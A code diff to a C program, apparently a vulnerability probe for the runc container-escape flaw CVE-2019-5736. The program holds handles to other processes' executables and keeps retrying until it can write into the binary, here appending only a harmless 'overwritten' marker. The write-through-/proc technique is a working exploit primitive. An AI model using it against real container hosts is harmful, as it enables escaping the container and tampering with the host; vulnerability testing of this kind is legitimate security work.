@@ -2,6 +2,7 @@
  * CVE-2019-5736 and its kin: watches the processes of its pid namespace as fast as it can and prints, each once,
  *
  *     exe LINK          where /proc/PID/exe leads, of processes that it can look into
+ *     open LINK         such a program was opened, too
  *     cmdline WORDS     their command lines
  *     environ WORDS     their environments, of processes that it can look into
  *
@@ -13,6 +14,7 @@
  */
 #define _GNU_SOURCE
 #include <dirent.h>
+#include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -81,17 +83,21 @@ static void keep(const char *pid)
 		return;
 	programs[program_count].fd = fd;
 	strcpy(programs[program_count++].link, link);
+	printf("open %s\n", link);
 }
 
 static int overwrite(int program)
 {
 	char path[64];
 	snprintf(path, sizeof path, "/proc/self/fd/%d", program);
-	/* a program that still runs is busy (ETXTBSY): wait for its end */
-	for (int i = 0; i < 1000; i++, usleep(1000)) {
+	/* a program that still runs is busy: wait for its end, which a loaded machine may put off; that of pid 1 does not come */
+	int tries = strncmp(programs[program].link, "/memfd:", 7) ? 60000 : 1000;
+	for (int i = 0; i < tries; i++, usleep(1000)) {
 		int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
-		if (fd < 0)
+		if (fd < 0 && errno == ETXTBSY)
 			continue;
+		if (fd < 0)
+			return 0;
 		ssize_t written = write(fd, "overwritten\n", 12);
 		close(fd);
 		return written == 12;
